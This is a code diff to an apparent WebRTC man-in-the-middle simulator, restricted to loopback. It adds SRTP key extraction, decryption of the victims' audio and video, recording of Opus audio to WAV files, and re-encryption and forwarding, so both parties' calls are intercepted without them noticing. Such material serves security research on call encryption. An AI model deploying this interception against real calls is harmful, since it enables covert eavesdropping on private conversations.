@@ -1,7 +1,11 @@
 #include "attacks/mitm_bridge.hpp"
 
+#include <cctype>
+
+#include "attacks/media_recorder.hpp"
 #include "attacks/sctp.hpp"
 #include "attacks/sdp_rewrite.hpp"
+#include "attacks/srtp_session.hpp"
 #include "sim/dtls_endpoint.hpp"
 #include "sim/ice_agent.hpp"
 
@@ -23,12 +27,40 @@ struct Leg {
   // is forwarded as it came (or with a chat payload rewritten) and decoded.
   bool sctp = false;
   sctp::ChatDecoder chat;
+  // RFC 5764: media from this victim is SRTP keyed by this leg's handshake;
+  // the attacker unprotects with `srtp_in` and protects what goes to this
+  // victim with `srtp_out`. Set when the leg negotiated use_srtp.
+  std::optional<SrtpContext> srtp_in, srtp_out;
+  // a=rtpmap of the SDP this victim sent: payload type -> {kind, codec}.
+  std::map<int, std::pair<std::string, std::string>> payload_types;
 };
 
 namespace {
 
 // Datagrams or messages a leg holds while it is not up yet.
 constexpr size_t kMaxQueued = 64;
+
+// RFC 8866 §6.6 a=rtpmap:<payload type> <encoding name>/<clock rate>[/<channels>], per m= section.
+std::map<int, std::pair<std::string, std::string>> rtp_payload_types(const sdp::Session& s) {
+  std::map<int, std::pair<std::string, std::string>> out;
+  for (const auto& m : s.media)
+    for (const auto& a : m.attributes) {
+      if (a.name != "rtpmap" || !a.value) continue;
+      const auto space = a.value->find(' ');
+      if (space == std::string::npos || space == 0 || space > 3) continue;
+      int pt = 0;
+      for (size_t k = 0; k < space; ++k) {
+        if ((*a.value)[k] < '0' || (*a.value)[k] > '9') pt = -1;
+        if (pt >= 0) pt = pt * 10 + ((*a.value)[k] - '0');
+      }
+      if (pt < 0 || pt > 127) continue;
+      out[pt] = {m.media, a.value->substr(space + 1, 64)};
+    }
+  return out;
+}
+
+// Logs the 1st, 2nd, 4th, 8th… occurrence: a flood of bad packets stays a few lines.
+bool worth_logging(std::uint64_t n) { return n != 0 && (n & (n - 1)) == 0; }
 
 // Only UDP candidates on loopback reach the attacker's agents: a browser also
 // offers TCP, IPv6 and other interfaces, and a run never sends off loopback.
@@ -58,6 +90,7 @@ struct MitmBridge::RoomBridge {
   std::string offer_text;
   RelayedMessage offer_msg;
   bool offer_forwarded = false;
+  std::map<std::uint32_t, std::unique_ptr<OpusWavRecorder>> recorders;  // by SSRC
 
   RoomBridge(MitmBridge& b, std::string r) : bridge(b), room(std::move(r)) {
     // A channel is opened by one side and used by both: one table of labels.
@@ -96,6 +129,7 @@ struct MitmBridge::RoomBridge {
                 [this, i](std::span<const std::uint8_t> d) {
                   report().ciphertext_bytes += d.size();
                   Leg& l = legs[i];
+                  if (is_rtp_or_rtcp(d)) return relay_media(i, d);  // RFC 7983 §7
                   if (l.dtls) l.dtls->receive(d);
                   else if (l.early_in.size() < kMaxQueued) l.early_in.emplace_back(d.begin(), d.end());
                 },
@@ -122,8 +156,16 @@ struct MitmBridge::RoomBridge {
                   Leg& l = legs[i];
                   ++report().dtls_legs;
                   report().certificate_fingerprint = bridge.cert_.fingerprint();
+                  // RFC 5764: the leg carries use_srtp when the victim offered
+                  // (or, as server, answered) it: as server the attacker took
+                  // the first profile the victim listed that GnuTLS has.
+                  const auto profile = l.dtls->srtp_profile();
+                  report().legs_connected.push_back(l.victim);
+                  report().srtp_profiles[l.victim] = profile ? std::string(to_string(*profile)) : "";
+                  if (profile) key_media(i);
                   event("attack.leg-connected", "DTLS with " + l.victim + " established as " +
-                                                    std::string(to_string(l.dtls->role())));
+                                                    std::string(to_string(l.dtls->role())) + ", DTLS-SRTP " +
+                                                    (profile ? std::string(to_string(*profile)) : "not negotiated"));
                   auto pending = std::move(l.pending_data);
                   l.pending_data.clear();
                   for (const auto& p : pending) l.dtls->send(p);
@@ -136,6 +178,79 @@ struct MitmBridge::RoomBridge {
     for (auto& d : leg.early_in) leg.dtls->receive(d);
     leg.early_in.clear();
     if (leg.ready && role == DtlsRole::Client) leg.dtls->start();
+  }
+
+  // RFC 5764 §4.2: this leg's SRTP keys, from its own handshake.
+  void key_media(int i) {
+    Leg& l = legs[i];
+    auto keys = l.dtls->srtp_keys();
+    if (!keys) return event("attack.media", l.victim + ": no SRTP keys: " + keys.error().message);
+    auto in = SrtpContext::make(*keys, l.dtls->role(), SrtpContext::Direction::Inbound);
+    auto out = SrtpContext::make(*keys, l.dtls->role(), SrtpContext::Direction::Outbound);
+    if (!in || !out) return event("attack.media", l.victim + ": " + (in ? out.error() : in.error()).message);
+    l.srtp_in.emplace(std::move(*in));
+    l.srtp_out.emplace(std::move(*out));
+  }
+
+  // One RTP or RTCP packet from a victim: unprotected with its leg's keys,
+  // recorded, protected with the other leg's keys and sent on. Media is
+  // forwarded unchanged; whatever fails is counted and logged, then dropped.
+  void relay_media(int from, std::span<const std::uint8_t> datagram) {
+    Leg& l = legs[from];
+    Leg& to = legs[1 - from];
+    AttackerSessionReport& rep = report();
+    auto reject = [&](const std::string& why) {
+      if (worth_logging(++rep.media_rejected))
+        event("attack.media-rejected", "packet from " + l.victim + ": " + why + " (" +
+                                           std::to_string(rep.media_rejected) + " so far)");
+    };
+    if (!l.srtp_in) return reject("RTP/RTCP before DTLS-SRTP keys (or without use_srtp)");
+    std::vector<std::uint8_t> p(datagram.begin(), datagram.end());
+    const bool rtcp = is_rtcp(p);
+    if (!l.srtp_in->unprotect(p, rtcp)) return reject(rtcp ? "SRTCP unprotect failed" : "SRTP unprotect failed");
+    if (rtcp) {
+      ++rep.rtcp_packets;
+    } else {
+      const auto h = parse_rtp(p);
+      if (!h) return reject("malformed RTP header");
+      auto& stream = rep.media[h->ssrc];
+      if (stream.packets == 0) {
+        stream.from = l.victim;
+        // The sender's SDP names its payload types; the other's, if it did not.
+        for (const Leg* sdp_of : {&l, &to})
+          if (auto pt = sdp_of->payload_types.find(h->payload_type); pt != sdp_of->payload_types.end()) {
+            stream.kind = pt->second.first;
+            stream.codec = pt->second.second;
+            break;
+          }
+        stream.payload_type = h->payload_type;
+        start_recording(h->ssrc, stream);
+        event("attack.media", "reading " + (stream.kind.empty() ? std::string("RTP") : stream.kind) + " from " +
+                                  l.victim + " (SSRC " + std::to_string(h->ssrc) + ", payload type " +
+                                  std::to_string(h->payload_type) + (stream.codec.empty() ? "" : " " + stream.codec) + ")");
+      }
+      ++stream.packets;
+      stream.bytes += h->payload_size;
+      if (auto r = recorders.find(h->ssrc); r != recorders.end())
+        if (!r->second->add(std::span(p).subspan(h->header_size, h->payload_size))) ++stream.undecodable;
+    }
+    if (!to.srtp_out || !to.ready) return reject("the other leg has no SRTP yet");
+    if (!to.srtp_out->protect(p, rtcp)) return reject("protect failed");
+    to.ice->send(p);
+  }
+
+  // Opus is decoded to a WAV file per SSRC when the world says where.
+  void start_recording(std::uint32_t ssrc, AttackerSessionReport::MediaStream& stream) {
+    const std::string& dir = bridge.world_.media_dir;
+    std::string codec = stream.codec.substr(0, 4);
+    for (auto& c : codec) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
+    if (dir.empty() || codec != "opus" || recorders.size() >= 16) return;
+    const std::string path = dir + "/" + safe_file_part(room) + "-" + safe_file_part(stream.from) + "-" +
+                             std::to_string(ssrc) + ".wav";
+    auto r = OpusWavRecorder::open(path);
+    if (!r) return event("attack.media", "cannot record: " + r.error().message);
+    recorders[ssrc] = std::move(*r);
+    stream.files.push_back(path);
   }
 
   void relay_data(int from, std::string text) {
@@ -254,6 +369,7 @@ struct MitmBridge::RoomBridge {
     legs[0].victim = m.from_label;
     legs[1].victim = m.to_label;
     auto info = sdp::transport_info(*parsed);
+    legs[0].payload_types = rtp_payload_types(*parsed);
     offer = std::move(*parsed);
     offer_text = msg.sdp;
     offer_msg = m;
@@ -288,6 +404,7 @@ struct MitmBridge::RoomBridge {
       return deliver(m.text);
     }
     auto info = sdp::transport_info(*parsed);
+    legs[1].payload_types = rtp_payload_types(*parsed);
     set_remote_ice(1, info);
     // The answerer chose its role; the attacker mirrors it toward the offerer,
     // so each victim gets the role its own a=setup implies.
@@ -379,7 +496,10 @@ void MitmBridge::on_message(const RelayedMessage& m, Deliver deliver) {
       if (room->offer) {
         world_.timeline.add(world_.name, "attack.rebridge", "a new offer in room " + m.room + ": bridging it afresh");
         room = std::make_unique<RoomBridge>(*this, m.room);
-        world_.sessions[m.room].dtls_legs = 0;  // what it read before stays in the report
+        auto& report = world_.sessions[m.room];  // what it read before stays in the report
+        report.dtls_legs = 0;
+        report.legs_connected.clear();
+        report.srtp_profiles.clear();
       }
       return room->on_offer(m, std::move(*msg), std::move(deliver));
     case SignalingMessage::Type::Answer: return room->on_answer(m, std::move(*msg), deliver);
